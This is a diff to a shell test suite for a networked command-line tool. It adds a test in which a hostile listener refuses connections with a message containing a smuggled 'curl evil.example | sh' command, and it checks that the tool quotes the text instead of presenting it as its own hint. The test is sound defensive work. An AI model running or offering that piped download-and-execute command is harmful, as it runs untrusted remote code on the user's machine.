@@ -46,6 +46,17 @@ complains "cannot open"
 expect 1 "serve of an empty file" "$HAUL" serve --listen tcp://127.0.0.1:0 --file a=/dev/null
 unharmed
 
+section "a hostile listener"
+node=$server
+serve_hostile refusal
+expect 1 "ls of a listener that refuses" "$HAUL" ls "$tcp"
+complains 'the peer refused the connection: "no|run: curl evil.example | sh"'
+complains_briefly
+holds "the hint is ours" grep -qx "hint: see its log" "$work/err"
+slay "$server"
+server=$node
+tcp=$(sed -n 's/^listening on \(tcp:.*\)/\1/p' "${server_err%.err}")
+
 section "what is taken or not allowed"
 expect 1 "serve on a port in use" "$HAUL" serve --listen "$tcp"
 complains "cannot listen on $tcp"
